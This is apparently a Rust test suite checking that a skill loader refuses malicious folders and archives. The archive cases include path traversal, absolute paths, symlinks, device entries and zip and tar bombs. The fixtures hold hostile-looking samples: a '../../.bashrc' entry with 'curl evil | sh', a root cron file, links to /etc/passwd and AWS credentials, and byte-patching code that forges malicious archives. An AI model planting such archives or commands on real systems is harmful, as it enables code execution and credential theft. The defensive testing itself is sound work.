//! Reading a skill's tree from a folder or an archive: every way a tree can try to reach
//! outside itself, or be too big, is refused with the path and the reason.

use std::io::Write;
use std::os::unix::fs::PermissionsExt;

use cordon_skills::tree::{MAX_BYTES, MAX_FILES};
use cordon_skills::{Tree, TreeError};

const SKILL_MD: &str = "---\nname: weather\ndescription: Current weather.\n---\n\nRun it.\n";

fn skill_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("SKILL.md"), SKILL_MD).unwrap();
    std::fs::create_dir(dir.path().join("scripts")).unwrap();
    let script = dir.path().join("scripts/run.sh");
    std::fs::write(&script, "#!/bin/sh\necho hi\n").unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    dir
}

/// The refusal's path and reason; panics (showing the tree) when it was accepted.
fn refusal(r: Result<Tree, TreeError>) -> (String, String) {
    match r {
        Err(TreeError::Refused { path, reason }) => (path, reason),
        Err(other) => panic!("expected a refusal, got {other}"),
        Ok(t) => panic!(
            "expected a refusal, the tree was accepted: {:?}",
            t.files().iter().map(|f| &f.path).collect::<Vec<_>>()
        ),
    }
}

#[test]
fn a_plain_folder_is_read_with_paths_and_executable_bits() {
    let dir = skill_dir();
    let tree = Tree::read_dir(dir.path()).unwrap();
    let paths: Vec<_> = tree.files().iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["SKILL.md", "scripts/run.sh"]);
    assert!(tree.get("scripts/run.sh").unwrap().executable);
    assert!(!tree.get("SKILL.md").unwrap().executable);
    assert_eq!(tree.get("SKILL.md").unwrap().contents, SKILL_MD.as_bytes());
}

#[test]
fn a_symlink_leading_out_is_refused() {
    let dir = skill_dir();
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("scripts/passwd")).unwrap();
    let (path, reason) = refusal(Tree::read_dir(dir.path()));
    assert_eq!(path, "scripts/passwd");
    assert!(reason.contains("symlink"), "{reason}");
}

#[test]
fn a_symlinked_folder_is_refused_not_followed() {
    let dir = skill_dir();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("id_rsa"), "secret").unwrap();
    std::os::unix::fs::symlink(outside.path(), dir.path().join("ssh")).unwrap();
    let (path, reason) = refusal(Tree::read_dir(dir.path()));
    assert_eq!(path, "ssh");
    assert!(reason.contains("symlink"), "{reason}");
}

#[test]
fn a_symlink_inside_the_skill_is_refused_too() {
    let dir = skill_dir();
    std::os::unix::fs::symlink("SKILL.md", dir.path().join("README.md")).unwrap();
    let (path, _) = refusal(Tree::read_dir(dir.path()));
    assert_eq!(path, "README.md");
}

#[test]
fn the_root_given_as_a_symlink_is_refused() {
    let dir = skill_dir();
    let holder = tempfile::tempdir().unwrap();
    let link = holder.path().join("skill");
    std::os::unix::fs::symlink(dir.path(), &link).unwrap();
    let (_, reason) = refusal(Tree::read_dir(&link));
    assert!(reason.contains("symlink"), "{reason}");
}

#[test]
fn a_hard_link_to_a_file_outside_is_refused() {
    let dir = skill_dir();
    // Same file system as the skill (a hard link cannot cross one).
    let outside = dir
        .path()
        .parent()
        .unwrap()
        .join(format!("cordon-outside-{}", std::process::id()));
    std::fs::write(&outside, "AWS_SECRET_ACCESS_KEY=x").unwrap();
    std::fs::hard_link(&outside, dir.path().join("creds.txt")).unwrap();
    let r = Tree::read_dir(dir.path());
    std::fs::remove_file(&outside).unwrap();
    let (path, reason) = refusal(r);
    assert_eq!(path, "creds.txt");
    assert!(reason.contains("hard link"), "{reason}");
}

#[test]
fn a_fifo_is_refused_without_blocking() {
    let dir = skill_dir();
    let fifo = dir.path().join("pipe");
    let ok = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(ok.success());
    let (path, reason) = refusal(Tree::read_dir(dir.path()));
    assert_eq!(path, "pipe");
    assert!(reason.contains("FIFO"), "{reason}");
}

#[test]
fn a_socket_is_refused() {
    let dir = skill_dir();
    let _listener = std::os::unix::net::UnixListener::bind(dir.path().join("sock")).unwrap();
    let (path, reason) = refusal(Tree::read_dir(dir.path()));
    assert_eq!(path, "sock");
    assert!(reason.contains("socket"), "{reason}");
}

#[test]
fn a_device_file_is_refused() {
    let dir = skill_dir();
    let dev = dir.path().join("null");
    let made = std::process::Command::new("mknod")
        .arg(&dev)
        .args(["c", "1", "3"])
        .output()
        .unwrap();
    if !made.status.success() {
        println!(
            "skipped: cannot create a device file here (needs root with CAP_MKNOD): {}",
            String::from_utf8_lossy(&made.stderr).trim()
        );
        return;
    }
    let (path, reason) = refusal(Tree::read_dir(dir.path()));
    assert_eq!(path, "null");
    assert!(reason.contains("character device"), "{reason}");
}

#[test]
fn a_non_utf8_name_is_refused() {
    use std::os::unix::ffi::OsStrExt;
    let dir = skill_dir();
    let name = std::ffi::OsStr::from_bytes(b"scripts/\xffrun.sh");
    std::fs::write(dir.path().join(name), "x").unwrap();
    let (path, reason) = refusal(Tree::read_dir(dir.path()));
    assert!(path.starts_with("scripts/"), "{path}");
    assert!(reason.contains("UTF-8"), "{reason}");
}

#[test]
fn more_than_2000_files_are_refused() {
    let dir = skill_dir();
    let many = dir.path().join("many");
    std::fs::create_dir(&many).unwrap();
    for i in 0..MAX_FILES {
        std::fs::write(many.join(format!("f{i}")), "x").unwrap();
    }
    let (_, reason) = refusal(Tree::read_dir(dir.path()));
    assert!(reason.contains("2000 files"), "{reason}");
}

#[test]
fn more_than_20_mb_is_refused_before_reading_it() {
    let dir = skill_dir();
    // A sparse 1 GiB file: refused from its size, never read into memory.
    let big = std::fs::File::create(dir.path().join("big.bin")).unwrap();
    big.set_len(1 << 30).unwrap();
    let (path, reason) = refusal(Tree::read_dir(dir.path()));
    assert_eq!(path, "big.bin");
    assert!(reason.contains(&MAX_BYTES.to_string()), "{reason}");
}

#[test]
fn files_adding_up_past_20_mb_are_refused() {
    let dir = skill_dir();
    let chunk = vec![b'a'; 6 * 1024 * 1024];
    for i in 0..4 {
        std::fs::write(dir.path().join(format!("part{i}")), &chunk).unwrap();
    }
    let (_, reason) = refusal(Tree::read_dir(dir.path()));
    assert!(reason.contains("more than"), "{reason}");
}

#[test]
fn a_folder_without_skill_md_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("README.md"), "hi").unwrap();
    let (path, _) = refusal(Tree::read_dir(dir.path()));
    assert_eq!(path, "SKILL.md");
}

// ---- archives -------------------------------------------------------------------------

/// A tar entry with a raw name (the `tar` crate refuses to write `..` itself).
fn tar_entry(b: &mut tar::Builder<Vec<u8>>, name: &[u8], kind: tar::EntryType, data: &[u8]) {
    let mut h = tar::Header::new_gnu();
    h.as_old_mut().name[..name.len()].copy_from_slice(name);
    h.set_entry_type(kind);
    h.set_mode(0o644);
    h.set_size(data.len() as u64);
    if kind == tar::EntryType::Symlink || kind == tar::EntryType::Link {
        h.set_link_name("/etc/passwd").unwrap();
    }
    h.set_cksum();
    b.append(&h, data).unwrap();
}

fn tar_gz(entries: &[(&[u8], tar::EntryType, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, kind, data) in entries {
        tar_entry(&mut b, name, *kind, data);
    }
    gz(&b.into_inner().unwrap())
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

const REG: tar::EntryType = tar::EntryType::Regular;

fn zip_of(entries: &[(&str, u32, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, mode, data) in entries {
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .unix_permissions(*mode);
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Replace every occurrence of `from` with `to` (same length) in the archive's bytes.
fn patch(bytes: &mut [u8], from: &[u8], to: &[u8]) {
    assert_eq!(from.len(), to.len());
    let mut hits = 0;
    for i in 0..=bytes.len() - from.len() {
        if &bytes[i..i + from.len()] == from {
            bytes[i..i + from.len()].copy_from_slice(to);
            hits += 1;
        }
    }
    assert!(hits > 0, "nothing to patch");
}

#[test]
fn a_tar_gz_is_read_and_its_top_folder_stripped() {
    let bytes = tar_gz(&[
        (b"weather/", tar::EntryType::Directory, b""),
        (b"weather/SKILL.md", REG, SKILL_MD.as_bytes()),
        (b"weather/scripts/run.sh", REG, b"echo hi\n"),
    ]);
    let tree = Tree::read_archive("weather.tar.gz", &bytes).unwrap();
    let paths: Vec<_> = tree.files().iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["SKILL.md", "scripts/run.sh"]);
    assert_eq!(tree.get("scripts/run.sh").unwrap().contents, b"echo hi\n");
}

#[test]
fn a_tgz_with_dot_slash_names_is_read() {
    let bytes = tar_gz(&[
        (b"./", tar::EntryType::Directory, b""),
        (b"./SKILL.md", REG, SKILL_MD.as_bytes()),
    ]);
    let tree = Tree::read_archive("w.tgz", &bytes).unwrap();
    assert!(tree.get("SKILL.md").is_some());
}

#[test]
fn a_zip_is_read_with_modes_and_its_top_folder_stripped() {
    let bytes = zip_of(&[
        ("weather/SKILL.md", 0o644, SKILL_MD.as_bytes()),
        ("weather/scripts/run.sh", 0o755, b"echo hi\n"),
    ]);
    let tree = Tree::read_archive("weather.zip", &bytes).unwrap();
    assert!(tree.get("scripts/run.sh").unwrap().executable);
    assert!(!tree.get("SKILL.md").unwrap().executable);
    // The same skill as a folder hashes the same.
    let dir = skill_dir();
    std::fs::write(dir.path().join("scripts/run.sh"), "echo hi\n").unwrap();
    assert_eq!(tree.sha256(), Tree::read_dir(dir.path()).unwrap().sha256());
}

#[test]
fn a_top_folder_is_kept_when_skill_md_is_not_inside_it() {
    let bytes = tar_gz(&[
        (b"SKILL.md", REG, SKILL_MD.as_bytes()),
        (b"docs/a.md", REG, b"a"),
    ]);
    let tree = Tree::read_archive("w.tar.gz", &bytes).unwrap();
    assert!(tree.get("docs/a.md").is_some());
}

#[test]
fn a_dotdot_entry_in_a_tar_is_refused() {
    let bytes = tar_gz(&[
        (b"SKILL.md", REG, SKILL_MD.as_bytes()),
        (b"../../.bashrc", REG, b"curl evil | sh"),
    ]);
    let (path, reason) = refusal(Tree::read_archive("evil.tar.gz", &bytes));
    assert!(path.contains("../../.bashrc"), "{path}");
    assert!(reason.contains("escape"), "{reason}");
}

#[test]
fn a_dotdot_entry_in_a_zip_is_refused() {
    // Written under a same-length name, then renamed in the bytes (writers refuse `..`).
    let mut bytes = zip_of(&[
        ("SKILL.md", 0o644, SKILL_MD.as_bytes()),
        ("xx/xx/.bashrc", 0o644, b"curl evil | sh"),
    ]);
    patch(&mut bytes, b"xx/xx/.bashrc", b"../../.bashrc");
    let (path, reason) = refusal(Tree::read_archive("evil.zip", &bytes));
    assert!(path.contains("../../.bashrc"), "{path}");
    assert!(reason.contains("escape"), "{reason}");
}

#[test]
fn an_absolute_entry_is_refused_in_tar_and_zip() {
    let bytes = tar_gz(&[
        (b"SKILL.md", REG, SKILL_MD.as_bytes()),
        (b"/etc/cron.d/x", REG, b"* * * * * root sh"),
    ]);
    let (path, reason) = refusal(Tree::read_archive("evil.tgz", &bytes));
    assert!(path.contains("/etc/cron.d/x"), "{path}");
    assert!(reason.contains("absolute"), "{reason}");

    let mut bytes = zip_of(&[
        ("SKILL.md", 0o644, SKILL_MD.as_bytes()),
        ("xetc/cron.d/x", 0o644, b"* * * * * root sh"),
    ]);
    patch(&mut bytes, b"xetc/cron.d/x", b"/etc/cron.d/x");
    let (_, reason) = refusal(Tree::read_archive("evil.zip", &bytes));
    assert!(reason.contains("absolute"), "{reason}");
}

#[test]
fn symlink_hardlink_and_device_entries_in_a_tar_are_refused() {
    for (kind, word) in [
        (tar::EntryType::Symlink, "symlink"),
        (tar::EntryType::Link, "hard link"),
        (tar::EntryType::Char, "device"),
        (tar::EntryType::Block, "device"),
        (tar::EntryType::Fifo, "FIFO"),
    ] {
        let bytes = tar_gz(&[(b"SKILL.md", REG, SKILL_MD.as_bytes()), (b"x", kind, b"")]);
        let (path, reason) = refusal(Tree::read_archive("evil.tar.gz", &bytes));
        assert!(path.ends_with(": x"), "{path}");
        assert!(reason.contains(word), "{kind:?}: {reason}");
    }
}

#[test]
fn a_symlink_entry_in_a_zip_is_refused() {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    w.start_file("SKILL.md", opts).unwrap();
    w.write_all(SKILL_MD.as_bytes()).unwrap();
    w.add_symlink("creds", "/root/.aws/credentials", opts)
        .unwrap();
    let bytes = w.finish().unwrap().into_inner();
    let (path, reason) = refusal(Tree::read_archive("evil.zip", &bytes));
    assert!(path.ends_with(": creds"), "{path}");
    assert!(reason.contains("symlink"), "{reason}");
}

#[test]
fn a_device_entry_in_a_zip_is_refused() {
    let mut bytes = zip_of(&[
        ("SKILL.md", 0o644, SKILL_MD.as_bytes()),
        ("dev", 0o644, b""),
    ]);
    // Writers only store permission bits; the file type (here a character device) is
    // set in the entry's external attributes in the central directory.
    set_unix_mode(&mut bytes, b"dev", 0o020_644);
    let (path, reason) = refusal(Tree::read_archive("evil.zip", &bytes));
    assert!(path.ends_with(": dev"), "{path}");
    assert!(reason.contains("device"), "{reason}");
}

fn set_unix_mode(bytes: &mut [u8], name: &[u8], mode: u16) {
    let mut i = 0;
    while i + 46 <= bytes.len() {
        if bytes[i..i + 4] == [0x50, 0x4b, 0x01, 0x02] {
            let len = u16::from_le_bytes([bytes[i + 28], bytes[i + 29]]) as usize;
            if &bytes[i + 46..i + 46 + len] == name {
                bytes[i + 40..i + 42].copy_from_slice(&mode.to_le_bytes());
                return;
            }
        }
        i += 1;
    }
    panic!("no central directory entry named {name:?}");
}

#[test]
fn non_utf8_entry_names_are_refused_in_tar_and_zip() {
    let bytes = tar_gz(&[
        (b"SKILL.md", REG, SKILL_MD.as_bytes()),
        (b"a\xffb", REG, b"x"),
    ]);
    let (_, reason) = refusal(Tree::read_archive("evil.tar.gz", &bytes));
    assert!(reason.contains("UTF-8"), "{reason}");

    let mut bytes = zip_of(&[
        ("SKILL.md", 0o644, SKILL_MD.as_bytes()),
        ("aXb", 0o644, b"x"),
    ]);
    patch(&mut bytes, b"aXb", b"a\xffb");
    let (_, reason) = refusal(Tree::read_archive("evil.zip", &bytes));
    assert!(reason.contains("UTF-8"), "{reason}");
}

#[test]
fn more_than_2000_entries_are_refused_in_tar_and_zip() {
    let names: Vec<String> = (0..=MAX_FILES).map(|i| format!("f{i}")).collect();
    let mut entries: Vec<(&[u8], tar::EntryType, &[u8])> =
        vec![(b"SKILL.md", REG, SKILL_MD.as_bytes())];
    entries.extend(names.iter().map(|n| (n.as_bytes(), REG, &b"x"[..])));
    let (_, reason) = refusal(Tree::read_archive("many.tar.gz", &tar_gz(&entries)));
    assert!(reason.contains("2000 files"), "{reason}");

    let mut zentries: Vec<(&str, u32, &[u8])> = vec![("SKILL.md", 0o644, SKILL_MD.as_bytes())];
    zentries.extend(names.iter().map(|n| (n.as_str(), 0o644, &b"x"[..])));
    let (_, reason) = refusal(Tree::read_archive("many.zip", &zip_of(&zentries)));
    assert!(reason.contains("2000 files"), "{reason}");
}

#[test]
fn more_than_20_mb_unpacked_is_refused_in_tar_and_zip() {
    let zeros = vec![0u8; 21 * 1024 * 1024];
    let bytes = tar_gz(&[
        (b"SKILL.md", REG, SKILL_MD.as_bytes()),
        (b"big", REG, &zeros),
    ]);
    assert!(
        bytes.len() < 1024 * 1024,
        "compresses well: {}",
        bytes.len()
    );
    let (path, reason) = refusal(Tree::read_archive("big.tar.gz", &bytes));
    assert!(path.ends_with(": big"), "{path}");
    assert!(reason.contains("more than"), "{reason}");

    let bytes = zip_of(&[
        ("SKILL.md", 0o644, SKILL_MD.as_bytes()),
        ("big", 0o644, &zeros),
    ]);
    let (_, reason) = refusal(Tree::read_archive("big.zip", &bytes));
    assert!(reason.contains("more than"), "{reason}");
}

#[test]
fn a_zip_bomb_lying_about_its_size_is_refused() {
    // 64 MB of zeros, declared as 1000 bytes: refused after reading past the declared
    // size, without inflating the rest.
    let zeros = vec![0u8; 64 * 1024 * 1024];
    let mut bytes = zip_of(&[
        ("SKILL.md", 0o644, SKILL_MD.as_bytes()),
        ("bomb", 0o644, &zeros),
    ]);
    let real = (zeros.len() as u32).to_le_bytes();
    let fake = 1000u32.to_le_bytes();
    // The uncompressed size follows the compressed one in both headers.
    patch_after_name_size(&mut bytes, &real, &fake);
    let (path, reason) = refusal(Tree::read_archive("bomb.zip", &bytes));
    assert!(path.ends_with(": bomb"), "{path}");
    assert!(
        reason.contains("declares 1000 bytes") || reason.contains("cannot be extracted"),
        "{reason}"
    );
}

/// Replace the 4-byte little-endian `real` size with `fake` wherever it occurs (the
/// local header and the central directory).
fn patch_after_name_size(bytes: &mut [u8], real: &[u8; 4], fake: &[u8; 4]) {
    patch(bytes, real, fake);
}

#[test]
fn a_tar_bomb_of_skipped_data_is_refused() {
    // Directory entries carrying data: the reader skips the data, but it still comes
    // out of the decompressor and is counted.
    let zeros = vec![0u8; 8 * 1024 * 1024];
    let mut b = tar::Builder::new(Vec::new());
    tar_entry(&mut b, b"SKILL.md", REG, SKILL_MD.as_bytes());
    for i in 0..4 {
        tar_entry(
            &mut b,
            format!("d{i}/").as_bytes(),
            tar::EntryType::Directory,
            &zeros,
        );
    }
    let bytes = gz(&b.into_inner().unwrap());
    let (_, reason) = refusal(Tree::read_archive("bomb.tar.gz", &bytes));
    assert!(reason.contains("more than"), "{reason}");
}

#[test]
fn an_encrypted_zip_entry_is_refused() {
    // A real zip whose entry's flags say "encrypted" (bit 0).
    let mut bytes = zip_of(&[("SKILL.md", 0o644, SKILL_MD.as_bytes())]);
    let flags_at = |sig: &[u8; 4], off: usize, bytes: &[u8]| {
        bytes.windows(4).position(|w| w == sig).unwrap() + off
    };
    let local = flags_at(&[0x50, 0x4b, 0x03, 0x04], 6, &bytes);
    let central = flags_at(&[0x50, 0x4b, 0x01, 0x02], 8, &bytes);
    bytes[local] |= 1;
    bytes[central] |= 1;
    let (_, reason) = refusal(Tree::read_archive("locked.zip", &bytes));
    assert!(reason.contains("password"), "{reason}");
}

#[test]
fn a_file_that_is_not_an_archive_is_refused() {
    let (path, reason) = refusal(Tree::read_archive("notes.txt", b"hello"));
    assert_eq!(path, "notes.txt");
    assert!(reason.contains(".zip"), "{reason}");
    let (_, reason) = refusal(Tree::read_archive("x.zip", b"PK\x03\x04garbage"));
    assert!(reason.contains("zip"), "{reason}");
}
